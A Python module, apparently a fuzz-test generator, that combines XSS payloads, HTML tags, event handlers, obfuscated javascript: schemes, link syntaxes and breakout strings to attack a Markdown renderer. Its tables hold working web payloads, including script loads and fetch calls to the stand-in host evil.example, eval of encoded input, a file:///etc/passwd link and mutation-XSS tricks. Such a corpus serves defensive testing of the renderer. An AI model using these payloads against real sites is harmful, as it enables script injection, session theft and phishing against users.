"""A generator of attacks on the renderer: every combination of a payload and a way to smuggle it in. Our own making."""

from collections.abc import Iterator

CALLS = ("alert(1)", "top.pwned=1", "fetch`//evil.example`", "eval(atob(name))")
TAGS = (
    "img",
    "svg",
    "math",
    "video",
    "iframe",
    "object",
    "embed",
    "form",
    "body",
    "details",
    "input",
    "a",
    "style",
    "x",
)
HANDLERS = ("onerror", "onload", "onclick", "ontoggle", "onfocus", "onpointerenter", "onanimationend", "OnMouseOver")
SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "java\nscript:",
    " javascript:",
    "\x01javascript:",
    "\u00a0javascript:",
    "&#106;avascript:",
    "&#x6A;avascript:",
    "javascript&colon;",
    "javascript&#58;",
    "java&Tab;script:",
    "java&NewLine;script:",
    "vbscript:",
    "livescript:",
    "data:text/html,",
    "data:text/html;base64,",
    "data:image/svg+xml,",
    "file:///",
    "blob:",
    "view-source:javascript:",
    "feed:javascript:",
    "jar:",
    "\\javascript:",
    "java\\script:",
    "javascript\u200b:",
    "ｊavascript:",
    "https:javascript:",
    "http:/evil.example/",
    "http:\\\\evil.example\\",
    "//evil.example/",
    "/\\evil.example/",
    "mailto:a@b.c?body=<script>",
)
LINKS = (
    "[x]({0})",
    "[x](<{0}>)",
    '[x]({0} "t")',
    "![x]({0})",
    "<{0}>",
    "[x][1]\n\n[1]: {0}",
    "[![x]({0})]({0})",
    '<a href="{0}">x</a>',
    "- [ ] [x]({0})",
    "| [x]({0}) |\n|---|\n| {0} |",
)
BREAKOUTS = (
    '[x](http://a.example/" {0})',
    "[x](http://a.example/' {0})",
    '[x](http://a.example "" {0}")',
    "[x](http://a.example '\" {0}')",
    'http://a.example/"{0}',
    '<http://a.example/"{0}>',
    '["{0}](http://a.example)',
    '!["{0}](http://a.example/a.png)',
    '`"{0}`',
    '```" {0}\nx\n```',
    "~~~ {0}\n</code></pre><script>\n~~~",
    "<br {0}>",
    "<br/{0}/>",
    '3. x\n4. "{0}',
    '| " {0} |\n|:--|\n| x |',
    '[x](mailto:a@b.c"{0})',
)
WHOLE = (
    "<script>{0}</script>",
    "<scr<script>ipt>{0}</scr</script>ipt>",
    "<script src=//evil.example></script>",
    "<style>@import '//evil.example';*{{x:expression({0})}}</style>",
    "<svg><style><img src=x onerror={0}>",
    "<svg><animate onbegin={0} attributeName=x>",
    '<math><annotation-xml encoding="text/html"><img src=x onerror={0}>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={0}&gt;">',
    '<noscript><p title="</noscript><img src=x onerror={0}>">',
    "<template><script>{0}</script></template>",
    "<!--><img src=x onerror={0}>-->",
    '<!--<img src="--><img src=x onerror={0}//">',
    "<![CDATA[<img src=x onerror={0}>]]>",
    '<?xml-stylesheet href="javascript:{0}"?>',
    "<base href=//evil.example/><img src=a>",
    '<meta http-equiv=refresh content="0;url=javascript:{0}">',
    "<link rel=attachment href=file:///etc/passwd>",
    '<object data="data:text/html,<script>{0}</script>">',
    '<div style="background:url(javascript:{0})">',
    "<td colspan=65534 background=//evil.example/>",
    "<textarea></textarea><img src=x onerror={0}>",
    "</pre><pre class=source onclick={0}>",
    "<span class=link-host style=x onclick={0}>(bank.example)</span>",
    "<input type=checkbox checked autofocus onfocus={0}>",
    "<label for=password>{0}</label>",
    "\x02klzzwxh:0000\x03<img src=x onerror={0}>",
    "\x02wzxhzdk:0\x03<script>{0}</script>",
)
FRAMES = ("{}", "> {}", "- a\n  - {}", "# {}", "**{}**", "[{}](http://a.example)", "| {} |\n|---|", "    {}")


def payloads() -> Iterator[str]:
    for tag in TAGS:
        for handler in HANDLERS:
            yield f"<{tag} src=x {handler}={CALLS[0]}>"
    for scheme in SCHEMES:
        for link in LINKS:
            yield link.format(scheme + CALLS[0])
    for call in CALLS:
        for breakout in BREAKOUTS:
            yield breakout.format(f"onmouseover={call} style=x id=y")
        for whole in WHOLE:
            yield whole.format(call)


def vectors() -> list[str]:
    """Each payload once as it is, and once in a frame in turn."""
    plain = list(payloads())
    framed = [FRAMES[place % len(FRAMES)].format(payload) for place, payload in enumerate(plain)]
    return list(dict.fromkeys([*plain, *framed]))
